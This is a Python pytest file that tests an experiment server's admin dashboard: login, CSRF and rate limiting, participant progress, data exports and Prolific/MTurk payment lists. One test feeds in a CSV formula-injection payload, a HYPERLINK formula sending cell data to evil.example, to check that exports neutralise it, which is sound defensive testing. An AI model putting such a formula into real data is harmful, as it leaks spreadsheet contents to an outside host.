"""Experimenter dashboard: login, CSRF, rate limit, progress, participants, exports, payment lists."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy import func, select

from contracts.bundle import load_bundle
from psychinterp.scripted import run_session
from tests.server_helpers import SCRIPTED_CRITERIA, correct_choice, start

PASSWORD = "correct horse battery"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


@pytest.fixture
def admin_app(tiny_bundle_dir, tmp_path):
    from experiment_server import create_app
    from experiment_server.admin import set_admin_password

    app = create_app(
        {
            "bundle_dir": tiny_bundle_dir,
            "database_url": f"sqlite:///{tmp_path / 'a.db'}",
            "bonus": {"per_correct_main_trial": 0.05, "flat": 0.5},
            # The server's minimum times would fail every scripted session; the 2023 study's fixed rule of
            # five choices per query position is one a short scripted session fails (previewed below).
            "criteria": {**SCRIPTED_CRITERIA, "min_choices_per_query_row": 5},
        }
    )
    set_admin_password(app.extensions["psychinterp_db"], "ada", PASSWORD)
    return app


def lenient_app(app, bundle_dir):
    """Another server on the same database whose criteria scripted participants pass (they are fast)."""
    from experiment_server import create_app

    config = app.config["PSYCHINTERP"]
    criteria = {**SCRIPTED_CRITERIA, "min_choices_per_query_row": 0}
    return create_app({**config.model_dump(exclude={"criteria_file"}), "bundle_dir": bundle_dir, "criteria": criteria})


def csrf_token(client, path="/admin/login") -> str:
    return CSRF.search(client.get(path).get_data(as_text=True)).group(1)


def login(client):
    response = client.post(
        "/admin/login", data={"username": "ada", "password": PASSWORD, "csrf_token": csrf_token(client)}
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    return client


def oracle(bundle, client, correct=True):
    def decide(trial):
        right = correct_choice(bundle, trial, client)
        return (right if correct else 1 - right), 2

    return decide


def test_admin_pages_refuse_without_login(admin_app):
    client = admin_app.test_client()
    for path in ("/admin/", "/admin/export/responses.csv", "/admin/export/prolific-approve.txt"):
        response = client.get(path)
        assert response.status_code == 302 and "/admin/login" in response.headers["Location"]
    api = client.get("/api/admin/progress")
    assert api.status_code == 401 and "log in" in api.get_json()["detail"]
    assert client.post("/admin/reservations/release").status_code in (302, 400)  # never runs unauthenticated


def test_login_needs_csrf_and_right_password_and_is_rate_limited(admin_app):
    client = admin_app.test_client()
    no_token = client.post("/admin/login", data={"username": "ada", "password": PASSWORD})
    assert no_token.status_code == 400 and "CSRF" in no_token.get_json()["detail"]
    token = csrf_token(client)
    wrong = client.post("/admin/login", data={"username": "ada", "password": "nope", "csrf_token": token})
    assert wrong.status_code == 401
    codes = [
        client.post("/admin/login", data={"username": "ada", "password": "nope", "csrf_token": token}).status_code
        for _ in range(5)
    ]
    assert codes[-1] == 429  # 5 attempts per minute by default
    with admin_app.extensions["psychinterp_db"]() as db:
        from sqlalchemy import select

        from experiment_server.db import Admin

        stored = db.scalar(select(Admin.password_hash))
    assert PASSWORD not in stored and stored.startswith(("scrypt:", "pbkdf2:"))


def test_a_nul_in_the_login_form_is_a_400_not_a_500(admin_app):
    client = admin_app.test_client()
    form = {"username": "ada\x00", "password": PASSWORD, "csrf_token": csrf_token(client)}
    response = client.post("/admin/login", data=form)
    assert response.status_code == 400 and "form field username: control character U+0000" in response.get_data(True)


def test_state_changes_need_post_and_csrf(admin_app):
    client = login(admin_app.test_client())
    assert client.get("/admin/reservations/release").status_code == 405
    assert client.post("/admin/reservations/release").status_code == 400  # no CSRF token
    token = csrf_token(client, "/admin/")
    released = client.post("/admin/reservations/release", data={"csrf_token": token})
    assert released.status_code == 302
    assert client.post("/admin/logout").status_code == 400
    assert client.post("/admin/logout", data={"csrf_token": token}).status_code == 302
    assert client.get("/admin/").status_code == 302


def test_dashboard_progress_participants_exports_and_payments(admin_app, tiny_bundle_dir):
    bundle = load_bundle(tiny_bundle_dir)
    participant = admin_app.test_client()
    prolific = {"platform": "prolific", "participant_id": "900d00000000000000000000"}
    run_session(participant, oracle(bundle, participant), platform=prolific)
    run_session(
        participant,
        oracle(bundle, participant, correct=False),
        platform={**prolific, "participant_id": "bad000000000000000000000"},
    )
    mturk = {
        "platform": "mturk",
        "participant_id": "A1B2C3D4E5F6G7",
        "assignment_id": "ASSIGN111111111111111111111111",
        "hit_id": "HIT111111111111111111111111111",
    }
    run_session(participant, oracle(bundle, participant), platform={**mturk, "turk_submit_to": "https://www.mturk.com"})
    start(participant)  # reserved, nothing answered yet
    reading = start(participant)["token"]  # in progress: on the instructions, nothing answered yet
    participant.post(f"/api/sessions/{reading}/phase", json={"phase": "instructions"})

    client = login(admin_app.test_client())
    page = client.get("/admin/").get_data(as_text=True)
    assert (
        "900d00000000000000000000" in page
        and "bad000000000000000000000" in page
        and "catch-trial accuracy below 0.8" not in page
    )
    progress = client.get("/api/admin/progress").get_json()["tasks"]
    totals = {k: sum(t[k] for t in progress) for k in ("reserved", "in progress", "completed", "excluded")}
    assert totals == {"reserved": 1, "in progress": 1, "completed": 2, "excluded": 1}
    people = {p["participant_id"]: p for p in client.get("/api/admin/participants").get_json()["participants"]}
    assert (
        people["bad000000000000000000000"]["status"] == "excluded"
        and people["bad000000000000000000000"]["catch_accuracy"] == 0.0
    )
    assert (
        people["900d00000000000000000000"]["catch_accuracy"] == 1.0
        and people["900d00000000000000000000"]["session_s"] is not None
    )
    # The analysis' checks, previewed: a scripted participant who always picks the right query uses one
    # position too rarely for a fixed five choices per position.
    assert any("query position" in check for check in people["900d00000000000000000000"]["failed_checks"])

    rows = list(csv.DictReader(io.StringIO(client.get("/admin/export/responses.csv").get_data(as_text=True))))
    lines = client.get("/admin/export/responses.jsonl").get_data(as_text=True).splitlines()
    assert len(rows) == len(lines) > 0
    assert json.loads(lines[0])["participant_id"] == rows[0]["participant_id"]
    assert {r["trial_kind"] for r in rows} == {"practice", "main", "catch"}

    # Payment lists leave out sessions that fail the server's criteria: this one chose a position too rarely.
    assert client.get("/admin/export/prolific-approve.txt").get_data(as_text=True) == ""
    client = login(lenient_app(admin_app, tiny_bundle_dir).test_client())
    assert client.get("/admin/export/prolific-approve.txt").get_data(as_text=True) == "900d00000000000000000000\n"
    n_main = sum(1 for r in rows if r["participant_id"] == "900d00000000000000000000" and r["trial_kind"] == "main")
    bonus = client.get("/admin/export/prolific-bonus.csv").get_data(as_text=True)
    assert bonus == f"900d00000000000000000000,{0.5 + 0.05 * n_main:.2f}\n"
    approve = list(csv.DictReader(io.StringIO(client.get("/admin/export/mturk-approve.csv").get_data(as_text=True))))
    assert approve == [
        {
            "AssignmentId": "ASSIGN111111111111111111111111",
            "WorkerId": "A1B2C3D4E5F6G7",
            "HITId": "HIT111111111111111111111111111",
            "Approve": "x",
            "Reject": "",
        }
    ]
    assert "A1B2C3D4E5F6G7,ASSIGN111111111111111111111111," in client.get("/admin/export/mturk-bonus.csv").get_data(
        as_text=True
    )
    assert client.get("/admin/export/nonsense.csv").status_code == 404

    # What the payment lists leave out is listed for review, with why.
    held = list(csv.DictReader(io.StringIO(client.get("/admin/export/held-for-review.csv").get_data(as_text=True))))
    assert [(r["participant_id"], r["status"]) for r in held] == [("bad000000000000000000000", "failed")]
    assert held[0]["reasons"].startswith("failed by the server: attention")

    # Manual exclusion: a POST with the CSRF token; the session leaves the approval list.
    token = csrf_token(client, "/admin/")
    session_id = people["900d00000000000000000000"]["id"]
    # A NUL in the reason (a 500 on PostgreSQL) is refused with the field named, and nothing changes.
    nul = {"exclude": "1", "reason": "bot\x00", "csrf_token": token}
    refused = client.post(f"/admin/participants/{session_id}/exclusion", data=nul)
    assert refused.status_code == 400 and "form field reason: control character U+0000" in refused.get_data(True)
    assert "900d00000000000000000000" in client.get("/admin/export/prolific-approve.txt").get_data(as_text=True)
    client.post(f"/admin/participants/{session_id}/exclusion", data={"exclude": "1", "csrf_token": token})
    assert client.get("/admin/export/prolific-approve.txt").get_data(as_text=True) == ""


def test_a_dashboard_exclusion_reaches_the_export_and_the_analysis(admin_app, tiny_bundle_dir, tmp_path):
    from typer.testing import CliRunner

    from psychinterp.cli import app

    bundle = load_bundle(tiny_bundle_dir)
    participant = admin_app.test_client()
    for pid in ("cee900000000000000000000", "d40900000000000000000000"):
        run_session(
            participant,
            oracle(bundle, participant),
            platform={"platform": "prolific", "participant_id": pid},
            feedback="ok",
        )
    client = login(admin_app.test_client())
    people = {p["participant_id"]: p for p in client.get("/api/admin/participants").get_json()["participants"]}
    assert people["cee900000000000000000000"]["feedback"] == "ok" and "ok" in client.get("/admin/").get_data(
        as_text=True
    )
    form = {"exclude": "1", "reason": "answered  while\\non the phone", "csrf_token": csrf_token(client, "/admin/")}
    client.post(f"/admin/participants/{people['d40900000000000000000000']['id']}/exclusion", data=form)

    rows = list(csv.DictReader(io.StringIO(client.get("/admin/export/responses.csv").get_data(as_text=True))))
    dropped = {r["excluded_by_experimenter"] for r in rows if r["participant_id"] == "d40900000000000000000000"}
    assert dropped == {"1"} and {
        r["exclusion_reason"] for r in rows if r["participant_id"] == "d40900000000000000000000"
    } == {"answered while\\non the phone"}
    assert {r["feedback"] for r in rows} == {"ok"} and {r["excluded_by_experimenter"] for r in rows} == {"0", "1"}

    # Scripted participants are fast: on a server with lenient criteria only the dashboard's decision counts,
    # and `analyze --db` takes the criteria the server ran with.
    lenient_app(admin_app, tiny_bundle_dir)
    db = admin_app.config["PSYCHINTERP"].database_url
    for mode in ("ours", "published"):
        out = tmp_path / mode
        args = ["analyze", "--db", db, "--bundle", str(tiny_bundle_dir), "--out", str(out), "--resamples", "50"]
        result = CliRunner().invoke(app, [*args, "--exclusions", mode])
        assert result.exit_code == 0, result.output
        kept = pd_read(out / "accuracy.csv")
        assert set(kept["n_participants"]) == {1}
        page = (out / "index.html").read_text()
        assert "1 of 2 participant(s) excluded" in page and "on the phone" in page
    assert "took more than 2500 s in all" in (tmp_path / "ours" / "index.html").read_text()


def pd_read(path):
    import pandas as pd

    return pd.read_csv(path)


def test_csv_exports_quote_text_a_spreadsheet_would_run_as_a_formula(admin_app, tiny_bundle_dir):
    from experiment_server.export import spreadsheet_safe

    bundle = load_bundle(tiny_bundle_dir)
    participant = admin_app.test_client()
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    run_session(participant, oracle(bundle, participant), feedback=attack)
    client = login(admin_app.test_client())
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/export/responses.csv").get_data(as_text=True))))
    assert {r["feedback"] for r in rows} == {"'" + attack}
    assert [spreadsheet_safe(v) for v in ["+1", "-x", "@a", "\tb", "\rc", "ok", -1.5]] == [
        "'+1",
        "'-x",
        "'@a",
        "'\tb",
        "'\rc",
        "ok",
        -1.5,
    ]


def test_a_participant_who_lost_their_browser_is_reset_and_starts_again(admin_app, tiny_bundle_dir):
    from experiment_server.db import ParticipantSession, Response

    participant = admin_app.test_client()
    pid = {"platform": "prolific", "participant_id": "12ab" * 6}
    token = start(participant, **pid)["token"]
    participant.post(
        f"/api/sessions/{token}/practice/1/responses",
        json={"trial_index": 0, "chosen_query": 0, "confidence": 2, "rt_ms": 900.0},
    )
    assert start(participant, expect=409, **pid)  # a new browser: the id already has a session

    client = login(admin_app.test_client())
    people = {p["participant_id"]: p for p in client.get("/api/admin/participants").get_json()["participants"]}
    reset = f"/admin/participants/{people['12ab' * 6]['id']}/reset"
    assert client.post(reset).status_code == 400  # CSRF
    assert client.post(reset, data={"csrf_token": csrf_token(client, "/admin/")}).status_code == 302
    again = start(participant, **pid)
    assert again["status"] == "active" and again["token"] != token
    with admin_app.extensions["psychinterp_db"]() as db:
        old = db.scalar(select(ParticipantSession).where(ParticipantSession.token == token))
        assert (old.participant_id, old.status) == (f"{'12ab' * 6}~reset{old.id}", "expired")
        assert db.scalar(select(func.count()).select_from(Response).where(Response.session_id == old.id)) == 1
    # A finished session is never reset.
    client.post(reset, data={"csrf_token": csrf_token(client, "/admin/")})
    with admin_app.extensions["psychinterp_db"]() as db:
        assert db.scalar(select(func.count()).select_from(ParticipantSession)) == 2


def test_each_app_looks_logins_up_in_its_own_database(admin_app, tiny_bundle_dir, tmp_path):
    """Two apps in one process (the demo makes three): a login to the first still works once the second exists,
    and a login of one app is nobody in the other."""
    from experiment_server import create_app
    from experiment_server.admin import set_admin_password

    other = create_app(
        {"bundle_dir": tiny_bundle_dir, "database_url": f"sqlite:///{tmp_path / 'b.db'}", "criteria": SCRIPTED_CRITERIA}
    )
    set_admin_password(other.extensions["psychinterp_db"], "bea", "another long password")
    first = login(admin_app.test_client())
    assert first.get("/admin/").status_code == 200
    second = other.test_client()
    cookie = admin_app.config["SESSION_COOKIE_NAME"]
    assert cookie == other.config["SESSION_COOKIE_NAME"]  # one study id: the cookie's name is the same too
    second.set_cookie(cookie, first.get_cookie(cookie).value)  # one secret key signs both: admin 1 here is bea
    assert second.get("/admin/").status_code == 302  # ada is nobody there
